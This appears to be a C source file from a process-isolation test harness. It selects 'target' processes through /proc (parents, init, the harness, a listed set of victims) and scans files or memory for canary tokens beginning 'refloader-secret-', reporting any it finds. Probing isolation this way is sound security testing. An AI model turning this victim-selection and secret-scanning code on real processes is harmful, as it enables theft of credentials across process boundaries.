// Who may be attacked, and how secrets are found in memory.
#include <ctype.h>

#include "hostile.h"

int is_alone(void) {
    char own[64] = "";
    ssize_t length = readlink("/proc/self/ns/pid", own, sizeof own - 1);
    const char *machine = order("pidns");
    return length > 0 && *machine && strcmp(own, machine) != 0;
}

static pid_t parent_of(pid_t process) {
    char path[64], text[512] = "";
    snprintf(path, sizeof path, "/proc/%d/stat", process);
    int file = open(path, O_RDONLY);
    if (file < 0) return 0;
    ssize_t length = read(file, text, sizeof text - 1);
    close(file);
    char *end = length > 0 ? strrchr(text, ')') : NULL;
    int parent = 0;
    if (end) sscanf(end + 1, " %*c %d", &parent);
    return parent;
}

// The forebears count only if they lead to the harness: nobody else's processes are among them then.
static int forebears(pid_t *list, int room) {
    pid_t harness = (pid_t)number("harness"), each = getppid();
    for (int count = 0; each > 1 && count < room; each = parent_of(each)) {
        list[count++] = each;
        if (each == harness) return count;
    }
    return 0;
}

int targets(pid_t *list, int room) {
    int count = 0;
    if (is_alone()) {
        list[count++] = getppid();
        if (getppid() > 1) list[count++] = 1;
    } else {
        count = forebears(list, room);
        if (!count && number("harness") > 1) list[count++] = (pid_t)number("harness");
    }
    char *copy = strdup(order("victims")), *rest = copy, *part;
    while ((part = strsep(&rest, ":")) && count < room) {
        if (atoi(part) > 1) list[count++] = atoi(part);
    }
    free(copy);
    return count;
}

void for_each_target(void (*with)(pid_t target)) {
    pid_t list[32];
    int count = targets(list, 32);
    for (int i = 0; i < count; i++) with(list[i]);
}

void tell_secrets(const char *data, size_t size) {
    char start[32];
    snprintf(start, sizeof start, "%s-%s", "refloader", "secret-");
    size_t length = strlen(start);
    for (const char *at = data; (at = memmem(at, size - (size_t)(at - data), start, length)); at += length) {
        size_t end = length;
        while (at + end < data + size && end < 80 && (isalnum((unsigned char)at[end]) || at[end] == '-')) end++;
        if (end > length + 4) got("%.*s", (int)end, at);
    }
}

void tell_secrets_of_file(const char *path) {
    static char data[1 << 16];
    int file = open(path, O_RDONLY | O_CLOEXEC | O_NONBLOCK);
    if (file < 0) {
        refused(path);
        return;
    }
    ssize_t length = read(file, data, sizeof data);
    if (length > 0) tell_secrets(data, (size_t)length);
    close(file);
}
